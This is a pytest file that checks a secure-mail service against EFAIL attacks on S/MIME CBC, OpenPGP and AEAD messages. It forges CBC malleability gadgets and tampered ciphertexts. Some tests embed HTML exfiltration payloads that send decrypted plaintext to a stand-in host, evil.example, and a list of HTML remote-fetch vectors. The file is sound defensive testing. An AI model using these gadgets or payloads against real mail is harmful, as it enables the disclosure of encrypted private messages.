"""EFAIL malleability gadgets (Poddebniak et al., USENIX Security 2018 §3).

S/MIME CBC has no integrity: decrypted content is released, but flagged
REASON_INTEGRITY_NOT_PROTECTED unless a valid signature covers the whole
plaintext, and its HTML comes back with active and remote content
neutralised. OpenPGP without MDC, with a bad MDC, and any AEAD (OpenPGP
SEIPDv2, CMS AuthEnvelopedData) with a bad tag release no plaintext at
all: the plaintext marker appears nowhere, in the response or the logs.
"""

from __future__ import annotations

import logging
from collections.abc import Iterator

import grpc
import pytest
from adv_support import (
    ALICE,
    CRLF,
    MARKER,
    SCHEMES,
    Cast,
    GnuPG,
    V,
    cbc_gadget,
    decrypt_rpc,
    encrypt_rpc,
    error_info,
    expect,
    expect_attack,
    flip_in,
    gpg_session_key,
    headers,
    html_texts,
    literal_packet,
    message,
    multipart_encrypted_pgp,
    openpgp_cfb_encrypt,
    pgp_encrypted_blob,
    pgp_packet,
    pgp_packets,
    pkcs7_der,
    remote_urls,
    seipd_v1,
    smime_encrypted_entity,
    smime_signed_entity,
    split_message,
    text_part,
    with_pkcs7_der,
)
from service_support import Client

from secmail.mime.entity import parse_entity
from secmail.mime.protect import build_payload
from secmail.pgp import _backend

HTML = (
    b"<html><body><p>Bonjour Bob,</p>\r\n"
    + b"<p>"
    + b"x" * 64
    + b"</p>\r\n"
    + b"<p>"
    + MARKER
    + b"</p>\r\n"
    + b"<p>"
    + b"y" * 96
    + b"</p>\r\n"
    + b'<p><img src="https://www.ac-besancon.fr/logo.png"></p></body></html>\r\n'
)
#: Two gadget blocks: an <img whose URL swallows what follows (EFAIL §3.1).
INJECTED = {0: b'<img src="http:/', 2: b"/evil.example/?x"}


def _gadgets_inside(plaintext: bytes, anchor: bytes) -> dict[int, bytes]:
    """The INJECTED blocks moved to the first whole blocks after ``anchor``
    (and one garbage block), so that MIME headers stay intact."""
    first = (plaintext.index(anchor) + len(anchor)) // 16 + 2
    return {first + k: v for k, v in INJECTED.items()}


def _no_plaintext_anywhere(err: grpc.RpcError, caplog: pytest.LogCaptureFixture) -> None:
    assert error_info(err) == ("FAILED_PRECONDITION", "INTEGRITY_CHECK_FAILED")
    assert MARKER.decode() not in (err.details() or "")
    assert MARKER.decode() not in caplog.text
    assert MARKER not in str(err.trailing_metadata()).encode()


@pytest.fixture
def logs(caplog: pytest.LogCaptureFixture) -> Iterator[pytest.LogCaptureFixture]:
    caplog.set_level(logging.DEBUG)
    yield caplog


# --- S/MIME CBC -------------------------------------------------------------------------


def _check_gadget_is_real(der: bytes, cast: Cast, expected: bytes) -> None:
    """The modified ciphertext really decrypts to the injected tag."""
    from secmail.smime.envelope import decrypt_content

    plain = decrypt_content(der, [(cast.bob.cert, cast.bob.key)]).content
    assert expected in plain


def test_smime_cbc_gadget_html_is_neutralised(academy: Client, cast: Cast) -> None:
    content = text_part(HTML, subtype="html")
    entity = smime_encrypted_entity(content, [cast.bob.cert], authenticated=False)
    der = pkcs7_der(entity)
    forged = cbc_gadget(der, content, _gadgets_inside(content, b"<p>Bonjour Bob,</p>"))
    _check_gadget_is_real(forged, cast, b'<img src="http:/')
    resp = decrypt_rpc(academy, message(headers(), with_pkcs7_der(entity, forged)))
    v = resp.verdict
    expect_attack(
        v,
        banner=V.BANNER_NONE,
        lock=True,
        reasons=[V.REASON_INTEGRITY_NOT_PROTECTED, V.REASON_CONTENT_NEUTRALISED],
    )
    assert not v.integrity_protected
    [html] = html_texts(resp.display_message)
    assert remote_urls(html) == []
    assert "<img" not in html or 'src="http' not in html


def test_smime_cbc_unsigned_html_is_neutralised_even_unmodified(academy: Client, cast: Cast) -> None:
    """Nothing tells an unmodified CBC message from a modified one: the
    remote logo goes too, and the warning is the same."""
    entity = smime_encrypted_entity(text_part(HTML, subtype="html"), [cast.bob.cert], authenticated=False)
    resp = decrypt_rpc(academy, message(headers(), entity))
    expect_attack(
        resp.verdict,
        banner=V.BANNER_NONE,
        lock=True,
        reasons=[V.REASON_INTEGRITY_NOT_PROTECTED, V.REASON_CONTENT_NEUTRALISED],
    )
    [html] = html_texts(resp.display_message)
    assert MARKER.decode() in html
    assert "www.ac-besancon.fr" not in html


def _signed_cbc(cast: Cast) -> tuple[bytes, bytes, bytes]:
    """(outer fields, pkcs7-mime entity, its plaintext): alice signs an HTML
    message with header protection and CBC-encrypts it to bob."""
    raw = message(headers(), text_part(HTML, subtype="html"))
    payload, fields = build_payload(parse_entity(raw), hp="cipher")
    plaintext = smime_signed_entity(payload, cast.alice)
    entity = smime_encrypted_entity(plaintext, [cast.bob.cert], authenticated=False)
    return b"".join(h.raw + CRLF for h in fields), entity, plaintext


def test_smime_cbc_with_valid_signature_over_plaintext_is_green(academy: Client, cast: Cast) -> None:
    # Control (genuine): a valid signature over the whole plaintext makes CBC
    # tampering detectable (RFC 8551 §3.6), so nothing is flagged or cleaned.
    outer, entity, _ = _signed_cbc(cast)
    resp = decrypt_rpc(academy, outer + b"MIME-Version: 1.0\r\n" + entity)
    expect(resp.verdict, banner=V.BANNER_GREEN, lock=True)
    assert resp.verdict.integrity_protected
    assert "www.ac-besancon.fr" in html_texts(resp.display_message)[0]


def test_smime_cbc_gadget_under_signature_is_red_and_neutralised(academy: Client, cast: Cast) -> None:
    outer, entity, plaintext = _signed_cbc(cast)
    forged = cbc_gadget(pkcs7_der(entity), plaintext, _gadgets_inside(plaintext, b"<p>Bonjour Bob,</p>"))
    _check_gadget_is_real(forged, cast, b'<img src="http:/')
    resp = decrypt_rpc(academy, outer + b"MIME-Version: 1.0\r\n" + with_pkcs7_der(entity, forged))
    v = resp.verdict
    expect_attack(
        v,
        banner=V.BANNER_RED,
        lock=True,
        reasons=[V.REASON_BAD_SIGNATURE, V.REASON_INTEGRITY_NOT_PROTECTED, V.REASON_CONTENT_NEUTRALISED],
    )
    assert not v.integrity_protected
    for html in html_texts(resp.display_message):
        assert remote_urls(html) == []


# --- AEAD with a bad tag -------------------------------------------------------------------


@pytest.mark.parametrize("where", ["ciphertext", "tag"])
@pytest.mark.parametrize("signed", [False, True], ids=["encrypted", "signed+encrypted"])
def test_smime_authenveloped_bad_tag_releases_nothing(
    academy: Client, logs: pytest.LogCaptureFixture, where: str, signed: bool
) -> None:
    from asn1crypto import cms

    enc = encrypt_rpc(academy, ALICE, message(), V.SCHEME_SMIME, sign=signed)
    outer, entity = split_message(enc)
    der = pkcs7_der(entity)
    auth = cms.ContentInfo.load(der)["content"]
    ct = bytes(auth["auth_encrypted_content_info"]["encrypted_content"].native)
    mac = bytes(auth["mac"].native)
    bad = flip_in(der, ct, len(ct) // 2) if where == "ciphertext" else flip_in(der, mac, 3)
    with pytest.raises(grpc.RpcError) as err:
        decrypt_rpc(academy, outer + b"MIME-Version: 1.0\r\n" + with_pkcs7_der(entity, bad))
    _no_plaintext_anywhere(err.value, logs)


@pytest.mark.parametrize("where", ["chunk", "final-tag"])
@pytest.mark.parametrize("signed", [False, True], ids=["encrypted", "signed+encrypted"])
def test_pgp_seipdv2_bad_tag_releases_nothing(
    academy: Client, logs: pytest.LogCaptureFixture, where: str, signed: bool
) -> None:
    enc = encrypt_rpc(academy, ALICE, message(), V.SCHEME_OPENPGP, sign=signed)
    blob = pgp_encrypted_blob(enc)
    packets = pgp_packets(blob)
    [(_, body, raw)] = [p for p in packets if p[0] == 18]
    assert body[0] == 2  # SEIPDv2 (AEAD), as secmail writes
    offset = len(raw) - len(body) + (40 if where == "chunk" else len(body) - 3)
    bad_raw = raw[:offset] + bytes([raw[offset] ^ 0x01]) + raw[offset + 1 :]
    bad = _backend.armor(b"".join(r for t, _, r in packets if t != 18) + bad_raw, "message")
    attack = enc.replace(blob.strip(), bad.replace(b"\n", CRLF).strip())
    assert attack != enc
    with pytest.raises(grpc.RpcError) as err:
        decrypt_rpc(academy, attack)
    _no_plaintext_anywhere(err.value, logs)


# --- OpenPGP without (valid) MDC -------------------------------------------------------------


@pytest.fixture(scope="module")
def gpg_message(gpg: GnuPG, cast: Cast) -> tuple[bytes, bytes, int, bytes]:
    """A message gpg encrypted to bob (SEIPDv1 + MDC, v3 PKESK), with its
    session key: (outer fields, PKESK packets, cipher id, session key)."""
    raw = message(headers(subject="gpg"), text_part())
    payload, fields = build_payload(parse_entity(raw), hp="cipher")
    armored = gpg.run(
        "--trust-model", "always", "--armor", "--encrypt", "--recipient", cast.pgp_bob.address, input=payload
    ).stdout
    packets = pgp_packets(armored)
    assert [t for t, _, _ in packets] == [1, 18] and packets[1][1][0] == 1
    cipher, key = gpg_session_key(gpg, armored)
    outer = b"".join(h.raw + CRLF for h in fields)
    return outer, packets[0][2], cipher, key


def _pgp_message(outer: bytes, packets: bytes) -> bytes:
    armored = _backend.armor(packets, "message").replace(b"\n", CRLF)
    return outer + b"MIME-Version: 1.0\r\n" + multipart_encrypted_pgp(armored)


def _inner_payload(raw: bytes) -> bytes:
    payload, _ = build_payload(parse_entity(raw), hp="cipher")
    return payload


@pytest.mark.interop
def test_pgp_gpg_message_control_decrypts(
    academy: Client, gpg_message: tuple[bytes, bytes, int, bytes]
) -> None:
    # Control (genuine, made by GnuPG): lock, no banner, the marker is shown.
    outer, pkesk, cipher, key = gpg_message
    assert cipher == 9  # AES-256: what the crafted packets below use
    payload = _inner_payload(message(headers(subject="gpg"), text_part()))
    resp = decrypt_rpc(academy, _pgp_message(outer, pkesk + seipd_v1(key, literal_packet(payload))))
    expect(resp.verdict, banner=V.BANNER_NONE, lock=True)
    assert resp.verdict.integrity_protected
    assert MARKER in resp.display_message


@pytest.mark.interop
@pytest.mark.parametrize("mdc", ["bad", "missing"])
def test_pgp_bad_or_missing_mdc_releases_nothing(
    academy: Client, logs: pytest.LogCaptureFixture, gpg_message: tuple[bytes, bytes, int, bytes], mdc: str
) -> None:
    outer, pkesk, _, key = gpg_message
    payload = _inner_payload(message(headers(subject="gpg"), text_part()))
    attack = _pgp_message(outer, pkesk + seipd_v1(key, literal_packet(payload), mdc=mdc))
    with pytest.raises(grpc.RpcError) as err:
        decrypt_rpc(academy, attack)
    _no_plaintext_anywhere(err.value, logs)


@pytest.mark.interop
def test_pgp_sed_without_mdc_releases_nothing(
    academy: Client, gpg: GnuPG, logs: pytest.LogCaptureFixture, gpg_message: tuple[bytes, bytes, int, bytes]
) -> None:
    """A Symmetrically Encrypted Data packet (tag 9, no integrity at all),
    holding an EFAIL-style HTML exfiltration, under bob's real session key."""
    outer, pkesk, _, key = gpg_message
    html = b'<img src="http://evil.example/' + MARKER + b'">'
    packets = pkesk + pgp_packet(9, openpgp_cfb_encrypt(key, literal_packet(text_part(html, subtype="html"))))
    # The attack message is real: GnuPG decrypts it when told to ignore the
    # missing MDC (which it otherwise refuses to do since 2.2.8).
    armored = _backend.armor(packets, "message")
    assert MARKER in gpg.run("--ignore-mdc-error", "--decrypt", input=armored, check=False).stdout
    with pytest.raises(grpc.RpcError) as err:
        decrypt_rpc(academy, _pgp_message(outer, packets))
    _no_plaintext_anywhere(err.value, logs)


@pytest.mark.parametrize("scheme", SCHEMES.values(), ids=SCHEMES.keys())
def test_truncated_ciphertext_releases_nothing(
    academy: Client, logs: pytest.LogCaptureFixture, scheme: int
) -> None:
    enc = encrypt_rpc(academy, ALICE, message(), scheme)
    outer, entity = split_message(enc)
    if scheme == V.SCHEME_SMIME:
        from asn1crypto import cms

        der = pkcs7_der(entity)
        ct = bytes(
            cms.ContentInfo.load(der)["content"]["auth_encrypted_content_info"]["encrypted_content"].native
        )
        # Same length, last 32 octets of ciphertext zeroed: a "truncation"
        # that keeps the DER readable.
        bad = der.replace(ct, ct[:-32] + bytes(32))
        attack = outer + b"MIME-Version: 1.0\r\n" + with_pkcs7_der(entity, bad)
    else:
        blob = pgp_encrypted_blob(enc)
        packets = pgp_packets(blob)
        seipd = next(b for t, b, _ in packets if t == 18)
        cut = b"".join(r for t, _, r in packets if t != 18) + pgp_packet(18, seipd[: len(seipd) - 40])
        attack = enc.replace(blob.strip(), _backend.armor(cut, "message").replace(b"\n", CRLF).strip())
    with pytest.raises(grpc.RpcError) as err:
        decrypt_rpc(academy, attack)
    _no_plaintext_anywhere(err.value, logs)


@pytest.mark.parametrize(
    "html_type",
    ["text/html", "application/xhtml+xml"],
)
def test_smime_cbc_html_in_forwarded_message_is_neutralised(
    academy: Client, cast: Cast, html_type: str
) -> None:
    """Webmails render an attached message/rfc822 inline: the HTML inside it
    is as dangerous as a top-level part, so it is neutralised as well."""
    inner_html = (
        f'Content-Type: {html_type}; charset="utf-8"\r\n\r\n'.encode()
        + b'<html><body><img src="http://evil.example/leak?'
        + MARKER
        + b'"><p>Bonjour</p></body></html>\r\n'
    )
    forwarded = b"From: Carol <carol@ac-besancon.fr>\r\nSubject: fwd\r\nMIME-Version: 1.0\r\n" + inner_html
    from adv_support import multipart, rfc822_part

    content = multipart(
        "mixed", text_part(b"Voir ci-dessous.\r\n"), rfc822_part(forwarded, disposition="inline")
    )
    entity = smime_encrypted_entity(content, [cast.bob.cert], authenticated=False)
    resp = decrypt_rpc(academy, message(headers(), entity))
    expect_attack(
        resp.verdict,
        banner=V.BANNER_NONE,
        lock=True,
        reasons=[V.REASON_INTEGRITY_NOT_PROTECTED, V.REASON_CONTENT_NEUTRALISED],
    )
    assert b"evil.example" not in resp.display_message
    assert "Bonjour" in "".join(html_texts(resp.display_message)) or b"Bonjour" in resp.display_message


#: Ways HTML fetches from the network, absolute and relative.
FETCH_VECTORS = (
    b'<img src="//evil.example/a"><img src="\\\\evil.example\\b"><img src="/\\evil.example/c">'
    b'<img src="logo.png"><img srcset="http://evil.example/d 1x"><video poster="http://evil.example/e"></video>'
    b'<table background="http://evil.example/f"><tr><td>t</td></tr></table>'
    b'<p style="background:url(http://evil.example/g)">p</p><link rel="stylesheet" href="http://evil.example/h">'
    b'<style>@import url(http://evil.example/i);</style><base href="http://evil.example/">'
    b'<meta http-equiv="refresh" content="0;url=http://evil.example/j"><iframe src="http://evil.example/k"></iframe>'
    b'<form action="http://evil.example/l"><input type="image" src="http://evil.example/m"></form>'
    b'<svg><image href="http://evil.example/n"/></svg><object data="http://evil.example/o"></object>'
    b'<img src="cid:logo@ac-besancon.fr"><a href="mailto:bob@ac-besancon.fr">bob</a>'
)


def test_smime_cbc_html_fetch_vectors_are_all_removed(academy: Client, cast: Cast) -> None:
    html = b"<html><body>" + FETCH_VECTORS + b"<p>" + MARKER + b"</p></body></html>\r\n"
    entity = smime_encrypted_entity(text_part(html, subtype="html"), [cast.bob.cert], authenticated=False)
    resp = decrypt_rpc(academy, message(headers(), entity))
    expect_attack(
        resp.verdict,
        banner=V.BANNER_NONE,
        lock=True,
        reasons=[V.REASON_INTEGRITY_NOT_PROTECTED, V.REASON_CONTENT_NEUTRALISED],
    )
    [cleaned] = html_texts(resp.display_message)
    assert remote_urls(cleaned) == []
    assert "evil.example" not in cleaned and "logo.png" not in cleaned
    # What cannot fetch anything stays.
    assert 'src="cid:logo@ac-besancon.fr"' in cleaned and 'href="mailto:bob@ac-besancon.fr"' in cleaned
    assert MARKER.decode() in cleaned
